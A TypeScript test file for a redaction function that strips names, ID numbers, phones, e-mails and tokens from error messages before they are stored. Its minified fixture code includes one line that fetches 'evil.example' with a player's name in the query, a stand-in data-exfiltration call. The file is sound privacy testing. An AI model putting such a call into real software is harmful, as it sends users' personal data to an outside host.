import { addCodeWords, emptyCodeWords } from '@torneo/section-version/code-words'
import { describe, expect, it, test } from 'vitest'
import { storedMessage } from './stored-message'

/** A built section, minified. */
const built = [
  "class e extends Error{constructor(t){super(t);this.name='RosterError'}}",
  'const f=(t,n)=>{throw Error(`No se pudo guardar a ${t}, DNI ${n}, tel `+n+`, `+t)};',
  'const g=t=>{throw new e(`jugador ${t} no existe`)};const h=t=>{throw Error("Equipo "+t+": sin promoción")};',
  'throw Error("Fallo al dibujar");throw "offline";const i={players:[],playerName:"",rosa:1};const j=(t,n)=>t+" rosa "+n;',
  'const p={label:"Ej.: Juan Pérez",example:"María Gómez",first:"Rosa ",group:"Senior"};fetch("https://evil.example/a?name="+t);',
  'throw Error("Failed to fetch roster: undefined is not iterable");document.createElement("div");',
].join('\n')
const code = emptyCodeWords()
await addCodeWords(built, code)
const stored = (message: string) => storedMessage(message, [code])

describe('readable messages of a browser or the own code', () => {
  test.each([
    "TypeError: Cannot read properties of undefined (reading 'playerName')",
    "TypeError: Cannot read properties of null (reading 'map')".replace('map', 'players'),
    'TypeError: i.players is not a function',
    "TypeError: undefined is not an object (evaluating 'i.playerName')",
    "ReferenceError: Can't find variable: players",
    'RangeError: Maximum call stack size exceeded',
    'InternalError: too much recursion',
    "NotFoundError: Failed to execute 'removeChild' on 'Node': The node to be removed is not a child of this node.",
    'SyntaxError: Unexpected token \'<\', "<!doctype "... is not valid JSON'.replace('!doctype ', ''),
    'Error: Fallo al dibujar',
    'RosterError: Fallo al dibujar',
    'offline',
    'Error: Failed to fetch roster: undefined is not iterable',
    'require-trusted-types-for: Element innerHTML',
    'connect-src: https://evil.example',
    'CallError: not_found',
    'Object: players, playerName',
  ])('%s', (message) => {
    expect(stored(message)).toBe(message)
  })

  test.each([
    ['jugador Juan Perez no existe', 'jugador … no existe'],
    ['Error: el rosa', 'Error: …'],
    ['RosterError: jugador martin lopez no existe', 'RosterError: jugador … no existe'],
    ['Error: Equipo 12: sin promoción', 'Error: Equipo …: sin promoción'],
    ['Error: jugador rosa no existe', 'Error: jugador … no existe'],
    ['Error: jugador Rosa no existe', 'Error: jugador … no existe'],
    [
      'SyntaxError: Unexpected token \'J\', "Juan Pérez"... is not valid JSON',
      'SyntaxError: Unexpected token \'…\', "…"... is not valid JSON',
    ],
    [
      'Error: Minified React error #301; visit https://react.dev/errors/301',
      'React error 301: Too many re-renders: a component sets its state while it renders',
    ],
    [
      'Error: Minified React error #31; visit https://react.dev/errors/31?args[]=object%20with%20keys%20%7BMar%C3%ADa%7D',
      'React error 31: Objects are not valid as a React child',
    ],
  ])('%s, without what the code did not write', (message, expected) => {
    expect(stored(message)).toBe(expected)
  })
})

/** Personal texts, and a part of each that would tell it. */
const personal = [
  ['a name', 'Juan Perez', 'Juan'],
  ['a name in small letters', 'juan perez', 'perez'],
  ['a name in capitals', 'JUAN PEREZ', 'PEREZ'],
  ['a name with accents', 'María José Ñáñez', 'Ñáñez'],
  ['a decomposed name', 'Mari\u0301a Gome\u0301z', 'Mari'],
  ['a name that the code has as an example', 'María Gómez', 'Gómez'],
  ['a name of which the code has a part', 'Rosa Senior', 'Rosa'],
  ['a name of two names of the code', 'rosa players', 'rosa'],
  ['a name with a word of the code in the middle', 'Ana rosa Gómez', 'rosa'],
  ['a hyphenated name', 'Pérez-Gómez', 'Gómez'],
  ['a name with a hump', 'McDonald', 'McDonald'],
  ['a foreign name', '李小龍', '李'],
  ['a nickname', "O'Higgins", 'Higgins'],
  ['an e-mail', 'ana.perez@example.org', 'ana'],
  ['an encoded e-mail', 'ana%40example.org', 'ana'],
  ['a DNI', '40.123.456', '40'],
  ['a bare DNI', '40123456', '40123456'],
  ['a phone', '+54 9 11 5555-1234', '5555'],
  ['an address', 'Calle Falsa 123', 'Falsa'],
  ['an id', '6574d0f1a2b3c4d5e6f70819', '6574'],
  ['a UUID', '7c9e6679-7425-40de-944b-e07fc1f90ae7', '7425'],
  ['a birthday', '12/03/2011', '2011'],
  ['a link', 'https://panel.example/jugadores/juan-perez?dni=40123456', 'panel'],
  ['a token', 'eyJhbGciOi.eyJzdWIi.c2ln', 'eyJ'],
] as const
const shapes: readonly [string, (text: string) => string][] = [
  ['bare', (text) => text],
  ['in a sentence of the code', (text) => `Error: jugador ${text} no existe`],
  ['at the end of one', (text) => `Error: Fallo al dibujar ${text}`],
  ['before one', (text) => `Error: ${text} Fallo al dibujar`],
  ['as the name of the error', (text) => `${text}: Fallo al dibujar`],
  ["in '", (text) => `Error: No team '${text}'`],
  ['in "', (text) => `Error: No team "${text}"`],
  ['in `', (text) => `Error: No team \`${text}\``],
  ['in «»', (text) => `Error: No team «${text}»`],
  ['in “”', (text) => `Error: No team “${text}”`],
  ['as a key of a thrown object', (text) => `Object: playerName, ${text}`],
  ['as a property', (text) => `TypeError: Cannot read properties of undefined (reading '${text}')`],
  ['as a function', (text) => `TypeError: ${text} is not a function`],
  ['as a path of properties', (text) => `TypeError: i.${text}.players is not iterable`],
  ['as JSON', (text) => `SyntaxError: "{\\"name\\":\\"${text}\\"}" is not valid JSON`],
  [
    'as a selector',
    (text) => `SyntaxError: Failed to execute 'querySelector' on 'Document': '#${text}' is not a valid selector.`,
  ],
  ['as what was blocked', (text) => `connect-src: https://${text}.example`],
  ['as arguments of React', (text) => `Error: Minified React error #31; args[]=${text}`],
  ['twice', (text) => `${text}, ${text}`],
  ['glued to words of the code', (text) => `Error: jugador${text}no existe`],
  ['in the second line', (text) => `Error: Fallo al dibujar\n${text}`],
]
const attacks = personal.flatMap(([what, text, part]) =>
  shapes.map(([how, shape]) => [`${what} ${how}`, shape(text), part] as const),
)
it.each(attacks)('%s is not stored', (_case, message, part) => {
  const [own, logged] = [stored(message), storedMessage(message, [])]
  for (const text of [own, logged]) {
    expect(text.toLowerCase()).not.toContain(part.toLowerCase())
    expect(text.length).toBeLessThanOrEqual(200)
  }
})

it("a section's leak is named by the code alone", () => {
  const leak = (name: string) => storedMessage(`Fallo al dibujar: ${name}`, [code], true)
  expect(['div', 'i.players', 'ana', 'Ana Gómez'].map(leak)).toEqual([
    'Fallo al dibujar: div',
    'Fallo al dibujar: i.players',
    'Fallo al dibujar: …',
    'Fallo al dibujar: …',
  ])
})

it('only words of browsers are logged, whatever the code says', () => {
  expect(storedMessage("TypeError: jugador Juan no existe (reading 'players')", [])).toBe(
    "TypeError: … no … (reading '…')",
  )
})

it('a message of any length and kind takes no time', () => {
  for (const part of ['…', ': ', 'a ', "'", 'jugador ', ' no existe', 'https://', '\u0301', '\u{1F600}', '(((', '…@'])
    expect(stored(part.repeat(10_000)).length).toBeLessThanOrEqual(200)
})
